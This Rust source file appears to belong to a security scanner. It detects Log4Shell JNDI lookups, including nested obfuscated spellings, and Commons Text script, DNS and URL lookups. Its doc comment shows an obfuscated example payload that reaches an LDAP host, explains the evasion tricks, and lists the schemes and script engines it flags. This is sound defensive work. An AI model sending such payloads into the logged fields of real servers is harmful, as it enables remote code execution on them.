//! Lookups that a logging library would perform on a text.
//!
//! # What it finds
//! `${jndi:...}` in a text that somebody may log, and lookups put inside one another to spell it. Also the lookups of
//! Commons Text that run scripts or reach other hosts: `${script:..}`, `${dns:..}`, `${url:..}`.
//!
//! # Why it matters
//! Log4j 2 before 2.15 fetched and ran what such a text named. The text runs wherever it is logged: a user agent, a user
//! name, a path.
//!
//! # How it decides
//! The lookups of a text are evaluated as the library would, as far as they can be known: `${lower:J}` is `j`,
//! `${::-n}` and `${env:NaN:-d}` their defaults, case folded as Java folds it. What comes out is asked for `jndi:` at a
//! lookup's beginning, and for the protocols that it speaks.
//!
//! # Example
//! `${${lower:j}ndi:${::-l}dap://203.0.113.9/a}` reads `${jndi:ldap://203.0.113.9/a}`.
//!
//! # What it misses
//! A spelling that depends on the server's environment without a default.
//!
//! # References
//! CVE-2021-44228, CVE-2021-45046, CVE-2022-42889; Apache Log4j 2 manual, "Lookups" and "Property substitution".

use palisade_codec::ByteSet;

use super::{Detector, Evidence};
use crate::{Attack, Confidence, Value};

pub(super) const DETECTOR: Detector =
    Detector { name: "jndi", attack: Attack::Jndi, gate: ByteSet::of(b"$"), look };

/// Lookups inside one another. Log4j itself stops at a recursion of its own; a payload needs three.
const DEPTH_MAX: usize = 32;

/// Bytes of one evaluated lookup that are kept: a payload's beginning tells what it is.
const KEPT_BYTES_MAX: usize = 512;

fn look(value: &Value<'_>, evidence: &mut Evidence<'_>) {
    let text = value.bytes;
    let Some(first) = memchr::memmem::find(text, b"${") else { return };
    let mut open: Vec<Lookup> = Vec::new();
    let mut at = first;
    while at < text.len() {
        let rest = &text[at..];
        if rest.starts_with(b"${") && open.len() < DEPTH_MAX {
            open.push(Lookup { start: at, text: Vec::new(), nested: false });
            at += 2;
            continue;
        }
        let Some(inner) = open.last_mut() else {
            match memchr::memmem::find(rest, b"${") {
                Some(next) => at += next,
                None => break,
            }
            continue;
        };
        if text[at] == b'}' {
            let ended = open.pop().expect("there is an open one");
            ended.judge(at + 1, evidence);
            if let Some(outer) = open.last_mut() {
                outer.nested = true;
                let result = ended.result();
                let room = KEPT_BYTES_MAX.saturating_sub(outer.text.len());
                outer.text.extend_from_slice(&result[..result.len().min(room)]);
            }
        } else if inner.text.len() < KEPT_BYTES_MAX {
            inner.text.push(text[at].to_ascii_lowercase());
        }
        at += 1;
    }
    // One that is never closed does nothing by itself; another layer may close it.
    for lookup in open {
        lookup.judge(text.len(), evidence);
    }
}

/// A `${...}` that is being read.
struct Lookup {
    start: usize,
    /// What stands in it, inner lookups evaluated, in lower case.
    text: Vec<u8>,
    /// Whether it holds lookups.
    nested: bool,
}

impl Lookup {
    /// What it stands for, as far as that can be known.
    fn result(&self) -> &[u8] {
        let text = &self.text[..];
        // `${name:-default}`: names that a server does not have give their default.
        if let Some(found) = memchr::memmem::find(text, b":-") {
            return &text[found + 2..];
        }
        match text.iter().position(|byte| *byte == b':') {
            Some(colon) if matches!(&text[..colon], b"lower" | b"upper" | b"date" | b"base64") => {
                let result = &text[colon + 1..];
                // `${date:'j'}`: quoted letters of a pattern are themselves.
                result.strip_prefix(b"'").and_then(|quoted| quoted.strip_suffix(b"'")).unwrap_or(result)
            }
            _ => b"",
        }
    }

    fn judge(&self, end: usize, evidence: &mut Evidence<'_>) {
        let Some(target) = self.text.trim_ascii_start().strip_prefix(b"jndi:") else {
            return self.judge_other(end, evidence);
        };
        let scheme =
            [&b"ldap"[..], b"ldaps", b"rmi", b"dns", b"iiop", b"corba", b"nis", b"nds", b"http", b"https"]
                .into_iter()
                .find(|scheme| target.strip_prefix(*scheme).is_some_and(|rest| rest.starts_with(b":")));
        let spelled = if self.nested { ", spelled by lookups inside it" } else { "" };
        match scheme {
            Some(scheme) => evidence.found(
                Confidence::CERTAIN,
                self.start..end,
                format!("a JNDI lookup by {}{spelled}", String::from_utf8_lossy(scheme)),
            ),
            None => evidence.found(Confidence::STRONG, self.start..end, format!("a JNDI lookup{spelled}")),
        }
    }

    /// Lookups of Commons Text: each takes a second argument behind a colon.
    fn judge_other(&self, end: usize, evidence: &mut Evidence<'_>) {
        let mut parts = self.text.split(|byte| *byte == b':');
        let (name, first) = (parts.next().unwrap_or_default(), parts.next().unwrap_or_default());
        let rest = parts.next().unwrap_or_default();
        let does = match name {
            b"script"
                if matches!(first, b"javascript" | b"js" | b"groovy" | b"nashorn" | b"jexl" | b"python") =>
            {
                "runs a script"
            }
            b"dns" if first.starts_with(b"address|") || first.starts_with(b"name|") => "asks the DNS",
            b"url" if first.starts_with(b"utf") && !rest.is_empty() => "fetches a URL",
            _ => return,
        };
        evidence.found(Confidence::STRONG, self.start..end, format!("a lookup of Commons Text that {does}"));
    }
}
